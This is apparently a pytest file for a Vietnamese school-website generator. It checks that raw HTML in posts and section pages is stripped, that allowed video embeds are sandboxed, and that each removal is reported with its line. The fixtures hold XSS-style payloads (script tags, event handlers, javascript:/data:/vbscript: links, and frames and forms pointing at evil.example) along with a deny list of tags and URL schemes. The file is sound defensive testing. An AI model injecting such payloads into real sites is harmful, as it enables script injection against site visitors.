"""A post and a section page with raw HTML that could run, navigate or frame another site,
built for real: nothing of it is published, the rest of the page is, an embed from a host that
network.yml lists stays (sandboxed, lazy), and ``trangtin check`` and the build name each removed
thing with its file and line."""

from __future__ import annotations

import contextlib
import io
import json
from pathlib import Path

import lxml.html
import pytest

from tests.conftest import copy_network
from trangtin.cli.main import main

UNIT = "thcs-an-binh"
POST = f"content/{UNIT}/posts/2025/11/ma-nhung.md"
SECTION = f"content/{UNIT}/tuyen-sinh/index.md"
VIMEO = "https://player.vimeo.com/video/76979871"
YOUTUBE = "https://www.youtube.com/embed/dQw4w9WgXcQ"
POST_TEXT = f"""\
---
title: Bài có mã nhúng
date: 2025-11-03 08:00
authors: [Nguyễn Văn An]
categories: [Tin tức – Sự kiện]
approved_by: Trần Thị Bích Ngọc
---

Đoạn mở đầu vẫn hiện ra.

<script>alert('TT_PWNED')</script>

<style>body {{ display: none }}</style>

<iframe src="https://evil.example/TT_PWNED"></iframe>

<iframe src="{YOUTUBE}" width="560" height="315" frameborder="0" allowfullscreen></iframe>

<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>

<iframe src="{VIMEO}" title="Video Vimeo"></iframe>

<img src="https://thcs-anbinh.example.edu.vn/anh.jpg" onerror="alert('TT_PWNED')" alt="Ảnh hỏng">
<span onclick="alert('TT_PWNED')">Chữ bấm</span>

<a href="javascript:alert('TT_PWNED')">Liên kết một</a> <a href="JavaScript:alert('TT_PWNED')">Liên kết hai</a>
<a href="  JAVASCRIPT:alert('TT_PWNED')">Liên kết ba</a> <a href="data:text/html,TT_PWNED">Liên kết bốn</a>
<a href="vbscript:msgbox('TT_PWNED')">Liên kết năm</a>

<form action="https://evil.example/TT_PWNED"><input name="mat-khau"><button>Gửi</button></form>

<object data="https://evil.example/TT_PWNED.swf"></object>

<embed src="https://evil.example/TT_PWNED.swf">

<meta http-equiv="refresh" content="0;url=https://evil.example/TT_PWNED">

<base href="https://evil.example/TT_PWNED/">

<link rel="stylesheet" href="https://evil.example/TT_PWNED.css">

<svg><script>alert('TT_PWNED')</script><circle r="5" onclick="alert('TT_PWNED')"/></svg>

[Liên kết Markdown](javascript:alert(document.domain))

Đoạn kết thúc vẫn hiện ra.
"""
SECTION_TEXT = """\
# Tuyển sinh lớp 6

Nhà trường tuyển 200 học sinh.

<script>alert('TT_PWNED')</script>

<p onmouseover="alert('TT_PWNED')">Hồ sơ nộp tại văn phòng.</p>
"""
# What check and the build must say, by the text on the line and what the warning names.
POST_WARNINGS = [
    ("<script>alert", "thẻ <script>"),
    ("<style>", "thẻ <style>"),
    ("evil.example/TT_PWNED\"></iframe>", "khung nhúng <iframe> từ 'evil.example'"),
    ("youtube-nocookie", "khung nhúng <iframe> từ 'www.youtube-nocookie.com'"),
    ("onerror", "thuộc tính onerror"),
    ("Chữ bấm", "thuộc tính onclick"),
    ("Liên kết một", "địa chỉ 'javascript:…'"),
    ("Liên kết ba", "địa chỉ 'data:…'"),
    ("Liên kết năm", "địa chỉ 'vbscript:…'"),
    ("<form", "thẻ <form>"),
    ("<object", "thẻ <object>"),
    ("<embed", "thẻ <embed>"),
    ("<meta", "thẻ <meta>"),
    ("<base", "thẻ <base>"),
    ("<link", "thẻ <link>"),
    ("<svg>", "thẻ <svg>"),
    ("[Liên kết Markdown]", "địa chỉ 'javascript:…'"),
]
SECTION_WARNINGS = [("<script>", "thẻ <script>"), ("onmouseover", "thuộc tính onmouseover")]
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "content")


def line_of(text: str, needle: str) -> int:
    return next(number for number, line in enumerate(text.split("\n"), 1) if needle in line)


@pytest.fixture(scope="module")
def hostile_school(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_network(tmp_path_factory.mktemp("allow-list") / "network")
    network = root / "network.yml"
    network.write_text("embeds: [www.youtube.com, player.vimeo.com]\n" + network.read_text(encoding="utf-8"),
                       encoding="utf-8")
    (root / POST).write_text(POST_TEXT, encoding="utf-8")
    (root / SECTION).write_text(SECTION_TEXT, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def built(hostile_school: Path) -> tuple[Path, str]:
    """The school built once; what the build printed."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        code = main(["--root", str(hostile_school), "build", UNIT])
    assert code == 0, printed.getvalue()
    return hostile_school / "public" / UNIT, printed.getvalue()


def body_of(site: Path, url: str) -> lxml.html.HtmlElement:
    page = lxml.html.fromstring((site / url / "index.html").read_bytes())
    (body,) = page.xpath("//article[contains(@class, 'md-content__inner')]")
    return body


def post_body(site: Path) -> lxml.html.HtmlElement:
    (body,) = body_of(site, "tin-tuc/2025/11/ma-nhung").find_class("tt-post__body")
    return body


def assert_inert(body: lxml.html.HtmlElement) -> None:
    """Nothing in ``body`` runs, navigates, styles the page or loads from a host not allowed."""
    markup = lxml.html.tostring(body, encoding="unicode")
    assert "TT_PWNED" not in markup
    for element in body.iter():
        assert element.tag not in {"script", "style", "form", "input", "button", "object", "embed", "meta",
                                   "base", "link", "svg", "circle"}, element.tag
        assert not [name for name in element.attrib if name.startswith("on") or name == "style"]
        for name in URL_ATTRIBUTES:
            value = (element.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), (element.tag, name)


def test_nothing_that_could_run_remains_in_the_post(built):
    site, _ = built
    assert_inert(post_body(site))


def test_the_rest_of_the_post_is_published(built):
    body = post_body(built[0])
    text = body.text_content()
    for words in ("Đoạn mở đầu vẫn hiện ra.", "Đoạn kết thúc vẫn hiện ra.", "Chữ bấm", "Liên kết một",
                  "Liên kết năm", "Liên kết Markdown"):
        assert words in text
    (image,) = [img for img in body.iter("img") if img.get("alt") == "Ảnh hỏng"]
    assert image.get("src") == "https://thcs-anbinh.example.edu.vn/anh.jpg"
    assert [a.get("href") for a in body.iter("a") if a.text_content().startswith("Liên kết")] == [None] * 6


def test_only_embeds_from_listed_hosts_remain_sandboxed_and_lazy(built):
    iframes = list(post_body(built[0]).iter("iframe"))
    assert [f.get("src") for f in iframes] == [YOUTUBE, VIMEO]
    for frame in iframes:
        assert frame.get("sandbox") == ("allow-scripts allow-same-origin allow-popups "
                                        "allow-popups-to-escape-sandbox allow-presentation")
        assert frame.get("loading") == "lazy"
        assert frame.get("referrerpolicy") == "strict-origin-when-cross-origin"
        assert frame.get("allowfullscreen") is not None
    assert iframes[0].get("width") == "560" and iframes[1].get("title") == "Video Vimeo"


def test_a_section_page_is_cleaned_too(built):
    body = body_of(built[0], "tuyen-sinh")
    assert_inert(body)
    assert "Nhà trường tuyển 200 học sinh." in body.text_content()
    assert "Hồ sơ nộp tại văn phòng." in body.text_content()


def expected(path: str, text: str, warnings: list[tuple[str, str]]) -> list[tuple[str, int, str]]:
    return [(path, line_of(text, needle), what) for needle, what in warnings]


def test_check_names_each_removed_thing_with_its_line(hostile_school, capsys):
    main(["--root", str(hostile_school), "check", UNIT, "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    removed = [d for d in report["diagnostics"] if d["message"].startswith("đã bỏ ")]
    assert all(d["severity"] == "warning" and d["hint"] and d["unit"] == UNIT for d in removed)
    found = [(d["path"], d["line"], d["message"]) for d in removed]
    for path, line, what in (expected(POST, POST_TEXT, POST_WARNINGS)
                             + expected(SECTION, SECTION_TEXT, SECTION_WARNINGS)):
        assert any(p == path and n == line and what in m for p, n, m in found), (path, line, what, found)
    assert len(found) == len(POST_WARNINGS) + 2 + len(SECTION_WARNINGS)  # two lines hold two links each
    assert not [d for d in removed if "youtube.com/embed" in d["message"] or "vimeo" in d["message"]]


def test_the_build_prints_the_same_warnings(built, hostile_school, capsys):
    _, printed = built
    main(["--root", str(hostile_school), "check", UNIT])
    checked = sorted(line for line in capsys.readouterr().out.splitlines() if ": đã bỏ " in line)
    assert len(checked) == len(POST_WARNINGS) + 2 + len(SECTION_WARNINGS)
    assert checked == sorted(line for line in printed.splitlines() if ": đã bỏ " in line)
    assert "mã HTML không được phép" not in printed  # nothing removed that check had not named


def test_a_rebuild_from_the_caches_is_as_clean_and_says_it_again(hostile_school, built, tmp_path):
    """The second build reuses rendered Markdown and cleaned pages (another post changed, so
    MkDocs runs): the page is still clean and every warning is printed again."""
    site, first = built
    other = hostile_school / f"content/{UNIT}/posts/2025/11/hoc-sinh-tra-lai-cua-roi.md"
    other.write_text(other.read_text(encoding="utf-8") + "\nMột dòng thêm.\n", encoding="utf-8")
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        assert main(["--root", str(hostile_school), "build", UNIT]) == 0
    stats = json.loads((hostile_school / ".cache/trangtin" / UNIT / "last-build.json").read_text())
    assert stats["markdown_reused"] > 0 and stats["site_reused"] == 0
    assert_inert(post_body(site))
    assert [f.get("src") for f in post_body(site).iter("iframe")] == [YOUTUBE, VIMEO]
    warnings = sorted(line for line in printed.getvalue().splitlines() if ": đã bỏ " in line)
    assert warnings == sorted(line for line in first.splitlines() if ": đã bỏ " in line)
